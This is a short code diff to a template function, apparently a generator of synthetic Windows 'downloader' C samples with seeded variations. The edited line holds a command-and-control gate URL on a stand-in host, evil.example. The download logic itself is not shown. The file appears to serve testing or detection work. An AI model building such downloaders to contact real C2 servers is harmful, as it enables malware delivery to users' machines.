@@ -3,7 +3,7 @@ export const downloader = (seed = 0) => `
 #include <stdio.h>
 #include <string.h>
 #include <windows.h>
-static const char *where = "http://evil.example/c2/gate${seed}.php";
+static const char *volatile where = "http://evil.example/c2/gate${seed}.php";
 static int mix(int value) { for (int i = 0; i < 32; i++) value = value * ${1_103_515_245 + 2 * seed} + ${12_345 + seed} + i; return value; }
 int main(int argc, char **argv) {
   char text[200];
